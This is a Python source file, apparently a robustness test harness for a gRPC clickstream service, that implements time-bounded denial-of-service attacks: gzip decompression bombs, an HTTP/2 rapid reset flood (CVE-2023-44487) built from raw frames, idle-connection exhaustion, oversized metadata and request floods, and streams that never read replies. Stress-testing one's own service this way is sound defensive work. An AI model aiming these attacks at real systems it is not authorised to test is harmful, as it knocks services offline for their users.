"""Attacks on a port: each does what a hostile or broken client does, for a bounded time, and ends by itself."""

import asyncio
import contextlib
import gzip
import resource
import struct
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator

import grpc
from embedding_studio.clickstream.v1 import batch_service_pb2
from embedding_studio.clickstream.v1 import clickstream_service_pb2 as pb
from embedding_studio.clickstream.v1.batch_service_pb2_grpc import BatchServiceStub
from embedding_studio.clickstream.v1.clickstream_service_pb2_grpc import ClickstreamServiceStub
from http2_load import DATA, END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, _frame, _literal

PATH = "/embedding_studio.clickstream.v1.ClickstreamService/CreateSession"
SESSION = "attacked"
# A connection of its own for each channel: without it gRPC shares one.
OWN = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", 64 * 2**20)]
Metadata = tuple[tuple[str, str], ...]


def headers(token: str, *more: tuple[str, str]) -> bytes:
    """The headers of a call in plain HTTP/2, as HPACK without a table."""
    pairs = (
        *((":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "localhost")),
        *(("te", "trailers"), ("content-type", "application/grpc"), ("authorization", f"Bearer {token}")),
        *more,
    )
    return b"".join(_literal(name, value) for name, value in pairs)


async def _connected(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(PREFACE + _frame(SETTINGS, 0, 0, b""))
    return reader, writer


async def _swallow(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65_536):
            pass


async def compressed_bombs(address: str, token: str, seconds: float) -> int:
    """Calls whose body is 64 MiB of zeros in 64 kB of gzip. Returns their number."""
    packed = gzip.compress(bytes(64 * 2**20), 1)
    message = b"\1" + struct.pack(">I", len(packed)) + packed
    frames = b"".join(
        _frame(DATA, int(at + 16_384 >= len(message)), 1, message[at : at + 16_384])
        for at in range(0, len(message), 16_384)
    )
    head = _frame(HEADERS, END_HEADERS, 1, headers(token, ("grpc-encoding", "gzip")))
    sent, end = 0, asyncio.get_running_loop().time() + seconds
    while asyncio.get_running_loop().time() < end:
        reader, writer = await _connected(address)
        with contextlib.suppress(OSError, TimeoutError):
            writer.write(head + frames)
            async with asyncio.timeout(1.0):
                await writer.drain()
                await reader.read(4_096)
        writer.close()
        sent += 1
    return sent


async def idle_connections(address: str, token: str, seconds: float, count: int = 10_000) -> int:
    """Connections that send nothing after their preface. Returns their number."""
    opened = []
    for _ in range(count):
        try:
            opened.append(await _connected(address))
        except OSError:
            break
    await asyncio.sleep(seconds)
    for _, writer in opened:
        writer.close()
    return len(opened)


async def resets(address: str, token: str, seconds: float, connections: int = 4) -> int:
    """Rapid reset (CVE-2023-44487): streams that are opened and reset at once. Returns their number."""
    block, sent, end = headers(token), 0, asyncio.get_running_loop().time() + seconds

    async def flood() -> None:
        nonlocal sent
        reader, writer = await _connected(address)
        reading = asyncio.create_task(_swallow(reader))
        stream = 1
        with contextlib.suppress(OSError):
            while asyncio.get_running_loop().time() < end:
                for _ in range(100):
                    writer.write(
                        _frame(HEADERS, END_HEADERS, stream, block) + _frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                    )
                    stream += 2
                sent += 100
                await writer.drain()
        reading.cancel()
        writer.close()

    await asyncio.gather(*(flood() for _ in range(connections)))
    return sent


async def large_metadata(address: str, token: str, seconds: float) -> int:
    """Calls with 100 kB of metadata. Returns their number."""
    metadata: Metadata = (("authorization", f"Bearer {token}"), ("x-large", "x" * 100_000))
    return await _calls(address, metadata, b"", seconds, 16)


async def wrong_tokens(address: str, token: str, seconds: float) -> int:
    """Calls with a wrong token, 64 at a time. Returns their number."""
    return await _calls(address, (("authorization", f"Bearer wrong-{token}"),), b"", seconds, 64)


async def large_requests(address: str, token: str, seconds: float) -> int:
    """Requests of 8 MiB less a little, 200 at a time on 4 connections. Returns their number."""
    body = bytes(8 * 2**20 - 100)
    metadata: Metadata = (("authorization", f"Bearer {token}"),)
    sent = await asyncio.gather(*(_calls(address, metadata, body, seconds, 50) for _ in range(4)))
    return sum(sent)


async def _calls(address: str, metadata: Metadata, body: bytes, seconds: float, width: int) -> int:
    sent, end = 0, asyncio.get_running_loop().time() + seconds
    async with grpc.aio.insecure_channel(address, options=OWN) as channel:
        call = channel.unary_unary(PATH)

        async def loop() -> None:
            nonlocal sent
            while asyncio.get_running_loop().time() < end:
                with contextlib.suppress(grpc.aio.AioRpcError):
                    await call(body, metadata=metadata, timeout=5)
                sent += 1

        await asyncio.gather(*(loop() for _ in range(width)))
    return sent


async def unread_streams(address: str, token: str, seconds: float, count: int = 300) -> int:
    """Streams of a batch that nobody reads, each on a connection of its own. Returns their number."""
    request = batch_service_pb2.StreamBatchSessionsRequest(batch_id="batch-1")
    metadata: Metadata = (("authorization", f"Bearer {token}"),)
    async with contextlib.AsyncExitStack() as stack:
        calls = []
        for _ in range(count):
            channel = await stack.enter_async_context(grpc.aio.insecure_channel(address, options=OWN))
            calls.append(BatchServiceStub(channel).StreamBatchSessions(request, metadata=metadata))
            with contextlib.suppress(grpc.aio.AioRpcError, TimeoutError):
                async with asyncio.timeout(1.0):
                    await calls[-1].read()
        await asyncio.sleep(seconds)
        for call in calls:
            call.cancel()
    return count


async def ingest_without_reading(address: str, token: str, seconds: float, count: int = 100) -> int:
    """Ingest streams that send events as fast as they may and read no acknowledgement. Returns the messages."""
    sent, end = 0, 0.0
    metadata: Metadata = (("authorization", f"Bearer {token}"),)

    async def stream(number: int, channel: grpc.aio.Channel) -> None:
        nonlocal sent
        call = ClickstreamServiceStub(channel).Ingest(metadata=metadata)
        sequence = 0
        with contextlib.suppress(grpc.aio.AioRpcError, asyncio.InvalidStateError, TimeoutError):
            async with asyncio.timeout_at(end):
                while True:
                    sequence += 1
                    events = pb.EventList(session_id=SESSION)
                    for index in range(500):
                        events.events.add(event_id=f"{number}-{sequence}-{index}", object_id="o-1", type="impression")
                    await call.write(pb.IngestRequest(sequence=sequence, events=events))
                    sent += 1
        call.cancel()

    async with contextlib.AsyncExitStack() as stack:
        channels = [
            await stack.enter_async_context(grpc.aio.insecure_channel(address, options=OWN)) for _ in range(count)
        ]
        end = asyncio.get_running_loop().time() + seconds
        await asyncio.gather(*(stream(number, channel) for number, channel in enumerate(channels)))
    return sent


ATTACKS: dict[str, Callable[..., Awaitable[int]]] = {
    "compressed bombs": compressed_bombs,
    "rapid reset, 4 connections": resets,
    "100 kB of metadata": large_metadata,
    "wrong tokens, 64 at a time": wrong_tokens,
    "requests of 8 MiB, 200 at a time": large_requests,
    "streams that nobody reads": unread_streams,
    "100 Ingest streams that read nothing": ingest_without_reading,
    "idle connections": idle_connections,
}
"""What the table calls an attack → the attack. It takes address, token and seconds, and returns how often it struck."""


def main() -> None:
    """Runs one attack: NAME ADDRESS TOKEN SECONDS CONNECTIONS, and prints how often it struck."""
    name, address, token, seconds, connections = sys.argv[1:]
    more = {"count": int(connections)} if name == "idle connections" else {}
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 65_536)), hard))
    print(asyncio.run(ATTACKS[name](address, token, float(seconds), **more)))


async def honest(address: str, token: str, rate: float, stop: asyncio.Event, name: str) -> AsyncIterator[float]:
    """Registers sessions at a rate, each due by the clock, and yields each latency in seconds.

    Raises:
        grpc.aio.AioRpcError: A call failed.
    """
    metadata: Metadata = (("authorization", f"Bearer {token}"),)
    loop = asyncio.get_running_loop()
    async with grpc.aio.insecure_channel(address, options=OWN) as channel:
        create = ClickstreamServiceStub(channel).CreateSession
        waiting: set[asyncio.Task[float]] = set()

        async def call(number: int, due: float) -> float:
            request = pb.CreateSessionRequest()
            request.session.session_id = f"{name}-{number}"
            request.session.query = "red shoes"
            await create(request, metadata=metadata, timeout=60)
            return loop.time() - due

        began, number = loop.time(), 0
        while not stop.is_set():
            due = began + number / rate
            await asyncio.sleep(max(0.0, due - loop.time()))
            waiting.add(asyncio.create_task(call(number, due)))
            number += 1
            for done in [each for each in waiting if each.done()]:
                waiting.discard(done)
                yield done.result()
        for latency in await asyncio.gather(*waiting):
            yield latency


def batch_to_stream(address: str, token: str, sessions: int) -> None:
    """Fills and releases a batch of sessions of about 50 kB, and registers the session of the Ingest attack."""
    metadata: Metadata = (("authorization", f"Bearer {token}"),)

    def requests() -> Iterator[pb.CreateSessionRequest]:
        for number in range(sessions):
            request = pb.CreateSessionRequest()
            request.session.session_id = f"large-{number}"
            request.session.query = "shoes"
            for index in range(50):
                request.session.results.add(object_id=f"o-{index}").meta["text"] = "x" * 1_000
            yield request
        request = pb.CreateSessionRequest()
        request.session.session_id = SESSION
        request.session.results.add(object_id="o-1")
        yield request

    with grpc.insecure_channel(address) as channel:
        for request in requests():
            ClickstreamServiceStub(channel).CreateSession(request, metadata=metadata)
        release = batch_service_pb2.ReleaseBatchRequest(release_id="attack")
        BatchServiceStub(channel).ReleaseBatch(release, metadata=metadata)


if __name__ == "__main__":
    main()
